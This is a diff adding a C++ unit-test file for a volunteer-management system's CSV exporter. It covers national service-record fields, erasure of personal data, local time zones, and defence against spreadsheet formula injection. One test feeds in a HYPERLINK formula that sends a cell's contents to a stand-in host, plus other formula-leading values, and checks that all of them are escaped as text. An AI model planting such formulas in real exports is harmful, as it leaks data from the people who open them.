@@ -1,0 +1,155 @@
+// CSV exports for spreadsheets: service records with the national record
+// fields, cells a spreadsheet would run written as text, Chinese headers and
+// local times.
+
+#include <algorithm>
+#include <boost/test/unit_test.hpp>
+
+#include "adapters/csv/csv_text.h"
+#include "adapters/csv/exporter.h"
+#include "engine/command_service.h"
+#include "tests/adapters/demo_log.h"
+#include "tests/engine/opened_state.h"
+
+namespace homeward::csv {
+namespace {
+
+// The cell under `heading` in row `row` of an export.
+std::string At(const std::vector<std::vector<std::string>>& rows, std::size_t row,
+               const std::string& heading) {
+  const auto& header = rows.at(0);
+  const auto column = std::find(header.begin(), header.end(), heading);
+  BOOST_TEST_REQUIRE((column != header.end()), "no column " + heading);
+  return rows.at(row).at(static_cast<std::size_t>(column - header.begin()));
+}
+
+BOOST_AUTO_TEST_SUITE(csv_export_test)
+
+BOOST_AUTO_TEST_CASE(service_records_carry_the_national_record_fields) {
+  DemoLog demo;
+  // Hours are confirmed after the build, which the demo plans two weeks ahead.
+  CommandService service(demo.log, [] { return SystemClockMicros() + 30LL * 86400 * 1000000; });
+  const CommandContext ctx{"shiyan", "test", "t", ""};
+  VolunteerDetails wang = testing::OpenedVolunteer(demo.log, "shiyan", "v-wang").details;
+  wang.id_number = "420303198203081235";
+  wang.contact = "13800000001";
+  wang.skills = {"心理疏导", "急救"};
+  BOOST_TEST_REQUIRE(
+      service.Execute(ctx, PeopleCommand{CorrectVolunteerDetails{"v-wang", wang, "补全"}}).ok());
+  ConfirmHours confirm;
+  confirm.activity_id = "library-maling";
+  confirm.volunteer_id = "v-wang";
+  confirm.confirmed_by = "校长郑老师";
+  confirm.minutes = 150;
+  const auto confirmed = service.Execute(ctx, ActivityCommand{confirm});
+  BOOST_TEST_REQUIRE(confirmed.ok(), confirmed.status().ToString());
+  const auto rows =
+      ExportRows(demo.log, ExportKind::kServiceRecords, ExportQuery{"shiyan", "", "", 0});
+  BOOST_TEST_REQUIRE(rows.ok());
+  BOOST_TEST_REQUIRE(rows->size() == 2u);
+  // Art. 5: who the volunteer is.
+  BOOST_TEST(At(*rows, 1, "姓名") == "王芳");
+  BOOST_TEST(At(*rows, 1, "性别") == "女");
+  BOOST_TEST(At(*rows, 1, "出生日期") == "1982-03-08");
+  BOOST_TEST(At(*rows, 1, "证件类型") == "居民身份证");
+  // A spreadsheet would read 18 digits as a number and lose the last three.
+  BOOST_TEST(At(*rows, 1, "证件号码") == "\t420303198203081235");
+  BOOST_TEST(At(*rows, 1, "居住区域") == "十堰市");
+  BOOST_TEST(At(*rows, 1, "联系方式") == "13800000001");
+  BOOST_TEST(At(*rows, 1, "技能") == "心理疏导、急救");
+  BOOST_TEST(At(*rows, 1, "服务类别") == "关爱留守儿童");
+  // Art. 7: the service.
+  BOOST_TEST(At(*rows, 1, "志愿服务组织") == "马岭小学");
+  BOOST_TEST(At(*rows, 1, "服务项目") == "留守儿童之家 图书屋建设");
+  BOOST_TEST(At(*rows, 1, "服务内容") == "图书屋建设");
+  BOOST_TEST(At(*rows, 1, "服务时长(小时)") == "2.50");
+  BOOST_TEST(At(*rows, 1, "负责人") == "校长郑老师");
+  BOOST_TEST(At(*rows, 1, "记录人") == "校长郑老师");
+
+  // Once her personal data is erased, no record can name her.
+  BOOST_TEST_REQUIRE(
+      service.Execute(ctx, PeopleCommand{EraseVolunteerData{"v-wang", "本人申请"}}).ok());
+  const auto after =
+      ExportRows(demo.log, ExportKind::kServiceRecords, ExportQuery{"shiyan", "", "", 0});
+  BOOST_TEST_REQUIRE(after.ok());
+  BOOST_TEST(after->size() == 1u);
+}
+
+BOOST_AUTO_TEST_CASE(a_cell_a_spreadsheet_would_run_is_written_as_text) {
+  const std::string csv = WriteCsv({{"title", "place"},
+                                    {"=HYPERLINK(\"http://x/?\"&A1,\"点击\")", "-1层活动室"},
+                                    {"@SUM(A1)", "+86 公园"},
+                                    {"\t=1+1", "马岭小学"},
+                                    {"\t420303198203081235", "3-2班"}});
+  BOOST_TEST(csv.find("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"点击\"\")\"") != std::string::npos,
+             csv);
+  BOOST_TEST(csv.find("\"'-1层活动室\"") != std::string::npos);
+  BOOST_TEST(csv.find("\"'@SUM(A1)\"") != std::string::npos);
+  BOOST_TEST(csv.find("\"'+86 公园\"") != std::string::npos);
+  BOOST_TEST(csv.find("\"'\t=1+1\"") != std::string::npos);
+  // Text that starts otherwise is left as it is.
+  BOOST_TEST(csv.find("\"马岭小学\"") != std::string::npos);
+  BOOST_TEST(csv.find("\"\t420303198203081235\"") != std::string::npos);
+  BOOST_TEST(csv.find("\"3-2班\"") != std::string::npos);
+}
+
+BOOST_AUTO_TEST_CASE(exports_speak_chinese_and_local_time) {
+  DemoLog demo;
+  // A unit on Xinjiang's clock (UTC+6), and its activity at 09:00 there: 03:00 UTC.
+  CommandService service(demo.log);
+  const CommandContext ctx{"shiyan", "test", "t", ""};
+  BOOST_TEST_REQUIRE(
+      service
+          .Execute(ctx, PeopleCommand{CreateUnit{"urumqi", "乌鲁木齐站", UnitKind::kAssociation,
+                                                 "yunyang-fulian", "Asia/Urumqi"}})
+          .ok());
+  PlanActivity far;
+  far.activity_id = "far";
+  far.unit_id = "urumqi";
+  far.kind = ActivityKind::kOther;
+  far.title = "远方的活动";
+  far.starts_at_us = 1811818800LL * 1000000;  // 2027-06-01T03:00:00Z
+  far.ends_at_us = far.starts_at_us + 2LL * 3600 * 1000000;
+  const auto planned = service.Execute(ctx, ActivityCommand{far});
+  BOOST_TEST_REQUIRE(planned.ok(), planned.status().ToString());
+  // The trip starts at 09:00 in Shiyan, 01:00 UTC.
+  const auto roster = ExportRows(demo.log, ExportKind::kRoster, ExportQuery{"shiyan", "", "", 0});
+  BOOST_TEST_REQUIRE(roster.ok(), roster.status().ToString());
+  bool found = false;
+  for (std::size_t r = 1; r < roster->size(); ++r) {
+    if (At(*roster, r, "活动编号") != "trip-childrens-day") continue;
+    found = true;
+    BOOST_TEST(At(*roster, r, "开始时间").ends_with(" 09:00"), At(*roster, r, "开始时间"));
+    BOOST_TEST(At(*roster, r, "结束时间").ends_with(" 17:00"));
+    BOOST_TEST(At(*roster, r, "时区") == "Asia/Shanghai");
+    BOOST_TEST(At(*roster, r, "类型") == "外出活动");
+    BOOST_TEST(At(*roster, r, "状态") == "招募中");
+  }
+  BOOST_TEST(found);
+  found = false;
+  for (std::size_t r = 1; r < roster->size(); ++r) {
+    if (At(*roster, r, "活动编号") != "far") continue;
+    found = true;
+    BOOST_TEST(At(*roster, r, "开始时间") == "2027-06-01 09:00");
+    BOOST_TEST(At(*roster, r, "结束时间") == "2027-06-01 11:00");
+    BOOST_TEST(At(*roster, r, "时区") == "Asia/Urumqi");
+  }
+  BOOST_TEST(found);
+  // Hours as a spreadsheet reads a number, states in Chinese.
+  const auto report = ExportRows(demo.log, ExportKind::kReport, ExportQuery{"shiyan", "", "", 0});
+  BOOST_TEST_REQUIRE(report.ok(), report.status().ToString());
+  BOOST_TEST_REQUIRE(report->size() > 1u);
+  for (std::size_t r = 1; r < report->size(); ++r) {
+    const std::string hours = At(*report, r, "志愿服务时长(小时)");
+    BOOST_TEST((hours.find('E') == std::string::npos && hours.find('.') != std::string::npos),
+               hours);
+    const std::string state = At(*report, r, "月报");
+    BOOST_TEST((state == "未到期" || state == "按时上报" || state == "逾期" || state == "未上报"),
+               state);
+  }
+}
+
+BOOST_AUTO_TEST_SUITE_END()
+
+}  // namespace
+}  // namespace homeward::csv
